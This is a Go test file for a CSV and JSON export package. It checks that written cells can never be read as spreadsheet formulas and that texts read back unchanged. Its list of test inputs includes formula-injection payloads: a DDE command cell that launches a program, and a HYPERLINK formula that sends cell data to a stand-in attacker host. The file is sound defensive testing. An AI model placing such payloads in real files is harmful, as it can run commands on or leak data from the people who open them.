package export

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"
)

// hostile are texts that programs have taken for more than text.
var hostile = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", "\n=1", ` =1`, `"=1`, `'=1`, `''=1`, `" =1"`,
	`=HYPERLINK("https://evil.example/?"&A1,"click")`, `＝1`, `＋1`, `－1`, `＠SUM(A1)`, "\u200b=1", "\ufeff=1", "\u202e=1",
	"\u00a0=1", "\u3000=1", `“=1`, "\x00=1", "\x01=1", `a;=1+1;b`, "a\t=1\tb", "a\n=1", "a\r\n=1", `a|=1`, `a;"=1"`, `a; =1`,
	`";=1;"`, "\"\n=1\n\"", `,=1`, `","=1`, "−1", "﹢1", "﹫SUM(A1)", "<script>alert(1)</script>", "\xff=1", "# end",
}

// cells splits a line as a program does that knows neither commas nor quotes.
func cells(line string) []string {
	return strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(";\t|\n\r", r) })
}

// inert fails where a cell begins with what a program could compute.
func inert(t *testing.T, what, cell string) {
	t.Helper()
	bare := strings.TrimLeft(cell, " \"\u00a0\u200b\ufeff\u202e\u3000“\x01")
	if bare != "" && strings.ContainsRune("=+-@＝＋－＠−﹢﹣﹫", []rune(bare)[0]) {
		t.Errorf("%s begins a cell with %q", what, cell)
	}
}

func TestNothingThatPeopleWroteIsAFormula(t *testing.T) {
	for _, text := range hostile {
		written := string(appendCell(nil, tidy(text)))
		record, err := csv.NewReader(strings.NewReader(written + "\r\n")).Read()
		if err != nil || len(record) != 1 {
			t.Errorf("%q is written as %s: %d cells, %v", text, written, len(record), err)
			continue
		}
		inert(t, "with commas and quotes, "+text, record[0])
		for _, cell := range cells(strings.Trim(written, `"`)) {
			inert(t, "without them, "+text, cell)
		}
		if got := plainCell(record[0]); got != tidy(text) {
			t.Errorf("%q is read back as %q", text, got)
		}
	}
	for _, text := range []string{"Mara Voss", "a = b", "1;2", "it's", "see #general, then - if you like - go", "Ünïcode 🦊"} {
		if got := string(appendCell(nil, text)); got != `"`+text+`"` {
			t.Errorf("%q is written as %s", text, got)
		}
	}
}

// Whatever was written is read back, from both formats.
func TestEveryTextIsReadBack(t *testing.T) {
	odd := rapid.OneOf(rapid.String(), rapid.StringMatching("[='\"; \\t\\n|+@a\u200b-]{0,12}"), rapid.SampledFrom(hostile))
	rapid.Check(t, func(t *rapid.T) {
		text := tidy(odd.Draw(t, "text") + odd.Draw(t, "more"))
		if !utf8.ValidString(text) || strings.ContainsAny(text, "\r\x00") {
			t.Fatalf("%q is not tidy", text)
		}
		record, err := csv.NewReader(strings.NewReader(string(appendCell(nil, text)) + ",x\r\n")).Read()
		if err != nil || plainCell(record[0]) != text {
			t.Errorf("%q is read back from CSV as %q: %v", text, record, err)
		}
		var got string
		if err := json.Unmarshal(appendString(nil, text), &got); err != nil || got != text {
			t.Errorf("%q is read back from JSON as %q: %v", text, got, err)
		}
	})
}
